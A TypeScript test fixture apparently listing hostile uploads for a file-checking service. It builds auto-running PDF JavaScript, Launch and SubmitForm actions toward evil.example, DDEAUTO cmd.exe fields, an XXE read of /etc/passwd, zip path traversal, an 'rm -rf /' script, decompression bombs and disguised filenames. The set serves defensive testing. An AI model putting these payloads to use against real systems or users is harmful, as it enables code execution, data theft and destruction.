/** Files that nobody sends who means well, or that went wrong on the way: what each is, and what must be answered. */
import { randomBytes } from 'node:crypto'
import { deflateSync, gzipSync } from 'node:zlib'
import type { Refusal } from '../../src/platform/files/check/answer.ts'
import {
  box,
  exif,
  jpegComment,
  makeDocx,
  makeGif,
  makeHeic,
  makeJpeg,
  makeM4a,
  makeMp3,
  makeOgg,
  makePdf,
  makePng,
  makeWav,
  makeWebm,
  makeWebp,
  makeZip,
  packedObject,
  pngChunk,
  relationship,
} from './make-files.ts'

/** `refused` for one of these reasons; or `harmless`: taken, and nothing of these words is left in it. */
export type HostileUpload = {
  what: string
  name: string
  bytes: () => Buffer
  must: { refused: readonly Refusal[] } | { harmless: readonly string[] }
}

const refused =
  (...because: Refusal[]) =>
  (what: string, name: string, bytes: () => Buffer): HostileUpload => ({
    what,
    name,
    bytes,
    must: { refused: because },
  })
const active = refused('active')
const lies = refused('nameLies', 'notAccepted')
const broken = refused('broken', 'endsEarly')
const bomb = refused('unpacksTooLarge')
const twoInOne = refused('twoInOne')
const harmless = (what: string, name: string, bytes: () => Buffer, ...gone: string[]): HostileUpload => ({
  what,
  name,
  bytes,
  must: { harmless: gone },
})

const action = (dictionary: string) =>
  makePdf({ catalog: '/OpenAction 5 0 R', objects: [`5 0 obj << /Type /Action ${dictionary} >> endobj`] })
const inStream = (words: string, dictionary = '/Type /ObjStm /N 1 /First 4') =>
  makePdf({ objects: [packedObject(5, `5 0 ${words}`, dictionary)] })
const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share))
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_000_000)
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
const html = '<!doctype html><script>alert(1)</script>'
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)])
const part = (name: string, content: Buffer | string) => makeDocx({ more: [{ name, content }] })
const field = (words: string) => makeDocx({ body: `<w:p><w:r><w:instrText>${words}</w:instrText></w:r></w:p>` })

const ofPdf: readonly HostileUpload[] = [
  active('a script that starts by itself', 'a.pdf', () => action('/S /JavaScript /JS (app.alert(1))')),
  active('a script under a name of names', 'a.pdf', () => makePdf({ catalog: '/Names << /JavaScript 5 0 R >>' })),
  active('a script with letters of its name as numbers', 'a.pdf', () => action('/S /J#61v#61Script /JS (x)')),
  active('a script whose whole name is numbers', 'a.pdf', () => action('/S /#4a#61#76#61#53#63#72#69#70#74 /JS (x)')),
  active('a script with capital numbers', 'a.pdf', () => action('/S /#4A#61vaScript /JS (x)')),
  active('a script packed into a stream of objects', 'a.pdf', () => inStream('<< /S /JavaScript /JS (x) >>')),
  active('a script in a stream that says it is a picture', 'a.pdf', () =>
    inStream('<< /S /JavaScript /JS (x) >>', '/Subtype /Image'),
  ),
  active('a script in a stream whose kind is not said', 'a.pdf', () => inStream('<< /S /JavaScript /JS (x) >>', '')),
  active('a script behind a million empty bytes', 'a.pdf', () =>
    inStream(`${' '.repeat(1_200_000)}<< /S /JavaScript >>`),
  ),
  active('a script in a large packed stream', 'a.pdf', () =>
    makePdf({
      objects: [packedObject(5, Buffer.concat([randomBytes(1_500_000), Buffer.from('<< /S /JavaScript /JS (x) >>')]))],
    }),
  ),
  active('objects packed twice', 'a.pdf', () =>
    makePdf({
      objects: [
        Buffer.concat([
          Buffer.from('5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] >> stream\n'),
          deflateSync(deflateSync('5 0 << /S /JavaScript >>')),
          Buffer.from('\nendstream endobj\n'),
        ]),
      ],
    }),
  ),
  active('objects packed as letters', 'a.pdf', () =>
    makePdf({
      objects: ['5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >> stream\n3520>\nendstream endobj'],
    }),
  ),
  active('objects packed in a way of which only another object tells', 'a.pdf', () =>
    makePdf({ objects: ['5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter 6 0 R >> stream\nxx\nendstream endobj'] }),
  ),
  active('starts a program', 'a.pdf', () => action('/S /Launch /F (cmd.exe)')),
  active('starts a program of Windows', 'a.pdf', () => action('/S /L#61unch /Win << /F (cmd.exe) >>')),
  active('opens an address by itself', 'a.pdf', () => action('/S /URI /URI (http://evil.example/)')),
  active('opens an address by itself, said in place', 'a.pdf', () =>
    makePdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example/) >>' }),
  ),
  active('sends a form away', 'a.pdf', () => action('/S /SubmitForm /F (http://evil.example/)')),
  active('takes in data', 'a.pdf', () => action('/S /ImportData /F (x)')),
  active('opens another file', 'a.pdf', () => action('/S /GoToR /F (\\\\\\\\evil\\\\share)')),
  active('opens a file inside', 'a.pdf', () => action('/S /GoToE /T << >>')),
  active('a file inside', 'a.pdf', () =>
    makePdf({ objects: ['5 0 obj << /Type /EmbeddedFile /Length 1 >> stream\nx\nendstream endobj'] }),
  ),
  active('files inside, by name', 'a.pdf', () => makePdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' })),
  active('moving pictures with a program', 'a.pdf', () =>
    makePdf({ objects: ['5 0 obj << /Subtype /RichMedia >> endobj'] }),
  ),
  active('settings of moving pictures', 'a.pdf', () =>
    makePdf({ objects: ['5 0 obj << /Type /RichMediaSettings >> endobj'] }),
  ),
  active('a form of another kind', 'a.pdf', () => makePdf({ catalog: '/AcroForm << /XFA [(template) 5 0 R] >>' })),
  active('a film', 'a.pdf', () => makePdf({ objects: ['5 0 obj << /Subtype /Movie /Movie << /F (x) >> >> endobj'] })),
  active('a sound that plays by itself', 'a.pdf', () => action('/S /Sound /Sound 6 0 R')),
  active('plays what is elsewhere', 'a.pdf', () => action('/S /Rendition /OP 0')),
  active('a body with depth', 'a.pdf', () => makePdf({ objects: ['5 0 obj << /Subtype /U3D >> endobj'] })),
  refused('locked')('a password', 'a.pdf', () => makePdf({ trailer: '/Encrypt 9 0 R' })),
  refused('locked')('a password, said in place', 'a.pdf', () =>
    makePdf({ trailer: '/Encrypt << /Filter /Standard /V 1 >>' }),
  ),
  refused('locked')('a password whose name is numbers', 'a.pdf', () => makePdf({ trailer: '/Encryp#74 9 0 R' })),
  bomb('unpacks to 90 MB of nothing', 'a.pdf', () => makePdf({ objects: [packedObject(5, zeros(90))] })),
  bomb('a picture that unpacks to 230 MB', 'a.pdf', () =>
    makePdf({ objects: [packedObject(5, zeros(230), '/Subtype /Image')] }),
  ),
  bomb('fifty streams of 15 MB each', 'a.pdf', () => {
    const one = packedObject(5, zeros(15), '/Subtype /Image')
    return makePdf({ objects: Array.from({ length: 50 }, () => one) })
  }),
  refused('tooManyPages')('three thousand and one pages', 'a.pdf', () => makePdf({ pages: 3_001 })),
  broken('stops in the middle', 'a.pdf', () => cut(makePdf({ text: 'x\n'.repeat(400) }), 0.5)),
  broken('the first line and nothing else', 'a.pdf', () => Buffer.from('%PDF-1.7\n')),
  broken('begins and ends as it should, with nothing between', 'a.pdf', () => Buffer.from('%PDF-1.7\n%%EOF\n')),
  broken('random bytes between its first and its last line', 'a.pdf', () =>
    Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(20_000), Buffer.from('\n%%EOF\n')]),
  ),
  refused('broken', 'endsEarly', 'tooManyPages')('pages that are pages of themselves', 'a.pdf', () =>
    Buffer.from(
      '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    ),
  ),
  twoInOne('a zip behind it', 'a.pdf', () => Buffer.concat([makePdf(), makeZip([{ name: 'a.exe', content: 'MZ' }])])),
  twoInOne('a page behind it', 'a.pdf', () => Buffer.concat([makePdf(), Buffer.from(html)])),
  twoInOne('a page in its first lines', 'a.pdf', () =>
    Buffer.concat([Buffer.from('%PDF-1.7\n<html><script>x</script>\n'), makePdf()]),
  ),
  twoInOne('a page before it', 'a.pdf', () => Buffer.concat([Buffer.from('<html>'), makePdf()])),
  twoInOne('a picture before it', 'a.pdf', () => Buffer.concat([Buffer.from('GIF8'), makePdf()])),
]

const ofWord: readonly HostileUpload[] = [
  active('macros', 'a.docx', () => part('word/vbaProject.bin', ole)),
  active('macros under a name that says nothing', 'a.docx', () => part('word/media/image1.png', ole)),
  active('a kind of document that may have macros', 'a.docx', () =>
    makeDocx({
      types: '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    }),
  ),
  active('macros named in the list of kinds', 'a.docx', () =>
    makeDocx({ types: '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>' }),
  ),
  active('an object of another program', 'a.docx', () => part('word/embeddings/oleObject1.bin', ole)),
  active('a sheet inside', 'a.docx', () => part('word/embeddings/sheet.xlsx', makeZip([{ name: 'x', content: 'x' }]))),
  active('a control that runs', 'a.docx', () => part('word/activeX/activeX1.xml', '<x/>')),
  active('a button of its own', 'a.docx', () => part('customUI/customUI.xml', '<x/>')),
  active('a program', 'a.docx', () => part('word/media/setup.exe', 'MZ')),
  active('a program that says it is a picture', 'a.docx', () => part('word/media/a.png', 'MZ\x90\0')),
  active('a zip that says it is a picture', 'a.docx', () =>
    part('word/media/a.png', makeZip([{ name: 'x', content: 'x' }])),
  ),
  active('a PDF that says it is a picture', 'a.docx', () => part('word/media/a.png', makePdf())),
  active('a page inside', 'a.docx', () => part('word/afchunk.html', html)),
  active('a page taken in', 'a.docx', () => makeDocx({ body: '<w:altChunk r:id="rId9"/>' })),
  active('a page taken in by a relationship', 'a.docx', () =>
    makeDocx({ rels: relationship('aFChunk', 'afchunk.mht', 'Internal') }),
  ),
  active('an object in the text', 'a.docx', () =>
    makeDocx({ body: '<w:object><o:OLEObject ProgID="Package"/></w:object>' }),
  ),
  active('an object linked from outside', 'a.docx', () =>
    makeDocx({ rels: relationship('oleObject', 'http://evil.example/a.doc') }),
  ),
  active('a picture loaded from outside', 'a.docx', () =>
    makeDocx({ rels: relationship('image', 'http://evil.example/seen.png') }),
  ),
  active('a frame of outside', 'a.docx', () => makeDocx({ rels: relationship('frame', 'http://evil.example/') })),
  active('a part of the text from outside', 'a.docx', () =>
    makeDocx({ rels: relationship('subDocument', 'file://evil/x.docx') }),
  ),
  active('a link that is a script', 'a.docx', () =>
    makeDocx({ rels: relationship('hyperlink', 'javascript:alert(1)') }),
  ),
  active('a link that is a script, in numbers', 'a.docx', () =>
    makeDocx({ rels: relationship('hyperlink', 'java&#115;cript:x') }),
  ),
  active('a link to a file of the network', 'a.docx', () =>
    makeDocx({ rels: relationship('hyperlink', '\\\\evil\\share') }),
  ),
  active('a link to a program of Windows', 'a.docx', () =>
    makeDocx({ rels: relationship('hyperlink', 'ms-msdt:/id x') }),
  ),
  active('a picture from outside that says it is inside', 'a.docx', () =>
    makeDocx({ rels: relationship('image', 'http://evil.example/', 'Internal') }),
  ),
  active('asks another program (DDE)', 'a.docx', () => field('DDEAUTO c:\\\\windows\\\\cmd.exe')),
  active('asks another program, in pieces', 'a.docx', () =>
    makeDocx({
      body: '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r></w:p>',
    }),
  ),
  active('asks another program, in one field', 'a.docx', () =>
    makeDocx({ body: '<w:fldSimple w:instr="DDE cmd x"/>' }),
  ),
  active('fetches a picture by a field', 'a.docx', () => field('INCLUDEPICTURE "http://evil.example/a.png"')),
  active('fetches a text by a field', 'a.docx', () => field('INCLUDETEXT "http://evil.example/a.txt"')),
  active('a drawing with a script', 'a.docx', () => part('word/media/a.svg', svg)),
  active('a drawing with a page', 'a.docx', () =>
    part('word/media/a.svg', '<svg><foreignObject><iframe/></foreignObject></svg>'),
  ),
  active('a drawing that acts when touched', 'a.docx', () => part('word/media/a.svg', '<svg onload="x()"/>')),
  active('entities in its text', 'a.docx', () => part('word/x.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
  active('a file of this machine by an entity', 'a.docx', () =>
    part('word/x.xml', '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'),
  ),
  active('entities in wide letters', 'a.docx', () =>
    part('word/x.xml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<!DOCTYPE a><a/>', 'utf16le')])),
  ),
  harmless(
    'a template of somewhere else',
    'a.docx',
    () =>
      makeDocx({
        settings: '<w:settings xmlns:w="x" xmlns:r="y"><w:attachedTemplate r:id="rId9"/></w:settings>',
        settingsRels: relationship('attachedTemplate', 'http://evil.example/template.dotm'),
      }),
    'evil.example',
    'attachedTemplate',
  ),
  refused('locked')('a zip with a password', 'a.docx', () =>
    makeDocx({ more: [{ name: 'word/x.xml', content: 'x', flags: 0x0801 }] }),
  ),
  refused('locked')('a document with a password', 'a.docx', () =>
    Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]),
  ),
  bomb('a part that unpacks to 120 MB', 'a.docx', () => part('word/media/a.png', zeros(120))),
  bomb('a text that unpacks to 70 MB', 'a.docx', () =>
    part('word/x.xml', Buffer.from('<a>word</a>\n'.repeat(6_000_000))),
  ),
  bomb('four thousand parts', 'a.docx', () =>
    makeDocx({ more: Array.from({ length: 4_000 }, (_, at) => ({ name: `word/${at}.xml`, content: '<a/>' })) }),
  ),
  refused('broken', 'unpacksTooLarge')('says that a part is small, and it is not', 'a.docx', () =>
    makeDocx({ more: [{ name: 'word/a.xml', content: zeros(30), says: 10 }] }),
  ),
  refused(
    'broken',
    'unpacksTooLarge',
    'endsEarly',
    'nameLies',
  )('says that it has 65,000 parts', 'a.docx', () =>
    makeZip([{ name: 'word/document.xml', content: '<a/>' }], { count: 65_000 }),
  ),
  broken('a name that leaves the zip', 'a.docx', () => part('../../etc/cron.d/x.xml', 'x')),
  broken('a name from the root', 'a.docx', () => part('/etc/x.xml', 'x')),
  broken('a name with a drive of Windows', 'a.docx', () => part('C:/x.xml', 'x')),
  broken('a link in the zip', 'a.docx', () =>
    makeDocx({ more: [{ name: 'word/x.xml', content: '/etc/passwd', mode: 0o120777 }] }),
  ),
  broken('the same part twice', 'a.docx', () => makeDocx({ more: [{ name: 'WORD/document.xml', content: '<a/>' }] })),
  broken('a part packed in a way nobody uses', 'a.docx', () =>
    makeDocx({ more: [{ name: 'word/x.xml', content: 'x', method: 99 }] }),
  ),
  broken('stops in the middle', 'a.docx', () => cut(makeDocx(), 0.6)),
  refused('twoInOne', 'broken', 'nameLies')('a page before it', 'a.docx', () =>
    Buffer.concat([Buffer.from(html), makeDocx()]),
  ),
  refused('twoInOne', 'broken')('words behind it', 'a.docx', () => Buffer.concat([makeDocx(), Buffer.from(html)])),
  lies('a zip that is no document', 'a.docx', () => makeZip([{ name: 'readme.txt', content: 'x' }])),
  lies('a sheet', 'a.docx', () =>
    makeZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'xl/workbook.xml', content: '<a/>' },
    ]),
  ),
]

const ofPictures: readonly HostileUpload[] = [
  refused('tooManyDots')('60,000 by 60,000 dots', 'a.png', () => makePng({ width: 60_000, height: 60_000 })),
  refused('tooManyDots')('a line of two thousand million dots', 'a.png', () =>
    makePng({ width: 2_000_000_000, height: 1 }),
  ),
  refused('tooManyDots')('60,000 by 60,000 dots', 'a.jpg', () => makeJpeg({ width: 60_000, height: 60_000 })),
  refused('tooManyDots')('60,000 by 60,000 dots', 'a.gif', () => makeGif({ width: 60_000, height: 60_000 })),
  refused('tooManyDots')('60,000 by 60,000 dots', 'a.heic', () => makeHeic({ width: 60_000, height: 60_000 })),
  refused('tooManyDots')('sixteen million by sixteen million dots', 'a.webp', () =>
    makeWebp({ more: [{ name: 'VP8X', content: Buffer.from([0, 0, 0, 0, 255, 255, 255, 255, 255, 255]) }] }),
  ),
  broken('no dots at all', 'a.jpg', () => makeJpeg({ width: 0, height: 0 })),
  harmless('where it was taken', 'a.jpg', () => makeJpeg({ notes: [exif()] }), 'GPS', '51.5072'),
  harmless('where it was taken', 'a.heic', () => makeHeic(), 'GPS', '51.5072'),
  harmless('where it was taken', 'a.png', () => makePng({ more: [pngChunk('eXIf', 'GPS 51.5072')] }), 'GPS'),
  harmless(
    'where it was taken',
    'a.webp',
    () => makeWebp({ more: [{ name: 'EXIF', content: Buffer.from('GPS 51.5072') }] }),
    'GPS',
  ),
  harmless('a page in a comment', 'a.jpg', () => makeJpeg({ notes: [jpegComment(html)] }), '<script'),
  harmless('a page behind it', 'a.jpg', () => Buffer.concat([makeJpeg(), Buffer.from(html)]), '<script'),
  harmless(
    'a zip behind it',
    'a.jpg',
    () => Buffer.concat([makeJpeg(), makeZip([{ name: 'a.exe', content: 'MZ' }])]),
    'a.exe',
  ),
  harmless('a page in a text of it', 'a.png', () => makePng({ more: [pngChunk('tEXt', html)] }), '<script'),
  harmless('a page behind it', 'a.png', () => Buffer.concat([makePng(), Buffer.from(html)]), '<script'),
  harmless(
    'a zip behind it',
    'a.png',
    () => Buffer.concat([makePng(), makeZip([{ name: 'a.exe', content: 'MZ' }])]),
    'a.exe',
  ),
  harmless(
    'a text that unpacks to 100 MB',
    'a.png',
    () => makePng({ more: [pngChunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(zeros(100))]))] }),
    'zTXt',
  ),
  harmless('a page in a comment', 'a.gif', () => makeGif({ more: `!\xfe\x28${html}\0` }), '<script'),
  harmless('a page behind it', 'a.gif', () => Buffer.concat([makeGif(), Buffer.from(html)]), '<script'),
  harmless('a page behind it', 'a.webp', () => Buffer.concat([makeWebp(), Buffer.from(html)]), '<script'),
  harmless(
    'words of a program',
    'a.webp',
    () => makeWebp({ more: [{ name: 'XMP ', content: Buffer.from(html) }] }),
    '<script',
  ),
  broken('stops in the middle', 'a.jpg', () => cut(makeJpeg(), 0.7)),
  broken('stops in the middle', 'a.png', () => cut(makePng(), 0.7)),
  broken('stops in the middle', 'a.gif', () => cut(makeGif(), 0.8)),
  broken('stops in the middle', 'a.webp', () => cut(makeWebp(), 0.6)),
  broken('stops in the middle', 'a.heic', () => cut(makeHeic(), 0.5)),
  broken('a piece that is longer than the file', 'a.png', () =>
    Buffer.concat([makePng().subarray(0, 33), Buffer.from('7fffffff49444154', 'hex')]),
  ),
  broken('boxes that never end', 'a.heic', () =>
    Buffer.concat([box('ftyp', 'heic', '\0\0\0\0'), Buffer.from('0000000100000000ffffffffffffffff', 'hex')]),
  ),
  lies('a drawing that is a program', 'a.svg', () => Buffer.from(svg)),
  lies('a drawing under the name of a picture', 'a.png', () => Buffer.from(svg)),
  lies('a drawing packed', 'a.svgz', () => gzipSync(svg)),
]

const ofSounds: readonly HostileUpload[] = [
  twoInOne('a page in its notes', 'a.mp3', () =>
    Buffer.concat([Buffer.from(`ID3\x03\0\0\0\0\0${String.fromCharCode(html.length)}${html}`, 'latin1'), makeMp3()]),
  ),
  twoInOne('a zip behind it', 'a.mp3', () => Buffer.concat([makeMp3(), makeZip([{ name: 'a.exe', content: 'MZ' }])])),
  twoInOne('a zip behind it', 'a.wav', () => Buffer.concat([makeWav(), makeZip([{ name: 'a.exe', content: 'MZ' }])])),
  twoInOne('a page behind it', 'a.ogg', () => Buffer.concat([makeOgg(), Buffer.from(html)])),
  twoInOne('a PDF inside', 'a.wav', () => makeWav(makePdf())),
  broken('notes that never end', 'a.mp3', () => Buffer.from('ID3\x03\0\0\x7f\x7f\x7f\x7f', 'latin1')),
  broken('stops in the middle', 'a.wav', () => cut(makeWav(Buffer.alloc(4_000)), 0.5)),
  broken('stops in the middle', 'a.ogg', () => cut(makeOgg(), 0.8)),
  broken('stops in the middle', 'a.m4a', () => cut(makeM4a(), 0.6)),
  broken('no sound in it', 'a.m4a', () => makeM4a({ data: false })),
  broken('one frame, cut', 'a.mp3', () => cut(makeMp3(), 0.2)),
  refused('notAccepted')('a film', 'a.mp4', () => makeM4a({ handler: 'vide', brand: 'isom' })),
  refused('notAccepted')('a film', 'a.webm', () => makeWebm('V_VP9')),
]

const ofLies: readonly HostileUpload[] = [
  ...['a.pdf', 'a.docx', 'a.jpg', 'a.mp3', 'a.txt'].map((name) =>
    refused('empty')('nothing', name, () => Buffer.alloc(0)),
  ),
  lies('a picture that says it is a PDF', 'a.pdf', () => makeJpeg()),
  lies('a PDF that says it is a picture', 'a.jpg', () => makePdf()),
  lies('a page that says it is a PDF', 'a.pdf', () => Buffer.from(html)),
  lies('a program that says it is a document', 'a.docx', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])),
  lies('a program with a second ending', 'report.pdf.exe', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])),
  lies('a PDF under the name of a program', 'report.exe', () => makePdf()),
  lies('a name that is turned around', 'report\u202efdp.exe', () => makePdf()),
  lies('a name without an ending', 'report', () => makePdf()),
  lies('a name that ends before its ending', 'report.pdf\0.exe', () => makePdf()),
  lies('a page', 'a.html', () => Buffer.from(html)),
  lies('an older Word document', 'a.doc', () => ole),
  lies('an older Word document with the newer name', 'a.docx', () => ole),
  lies('a sheet', 'a.xlsx', () => makeZip([{ name: 'xl/workbook.xml', content: '<a/>' }])),
  lies('a document with macros, as it says', 'a.docm', () => makeDocx()),
  lies('a program of a shell', 'a.sh', () => Buffer.from('#!/bin/sh\nrm -rf /\n')),
  lies('a program for Linux', 'a.pdf', () => Buffer.from('\x7fELF', 'latin1')),
  lies('the sign of a virus', 'a.txt', () => Buffer.from(eicar)),
  lies('the sign of a virus that says it is a PDF', 'a.pdf', () => Buffer.from(eicar)),
  lies('a zip in a zip in a zip', 'a.zip', () =>
    makeZip([
      { name: 'b.zip', content: makeZip([{ name: 'c.zip', content: makeZip([{ name: 'd', content: zeros(10) }]) }]) },
    ]),
  ),
  lies('a tape with a link', 'a.tar', () => Buffer.concat([Buffer.from('link'), Buffer.alloc(508), Buffer.alloc(512)])),
  lies('random bytes', 'a.pdf', () => randomBytes(5_000)),
  lies('a million zeros', 'a.png', () => zeros(1)),
  refused('tooLarge')('larger than 100 MB', 'a.wav', () => Buffer.alloc(100 * 1024 * 1024 + 1)),
]

export const hostileUploads: readonly HostileUpload[] = [...ofPdf, ...ofWord, ...ofPictures, ...ofSounds, ...ofLies]
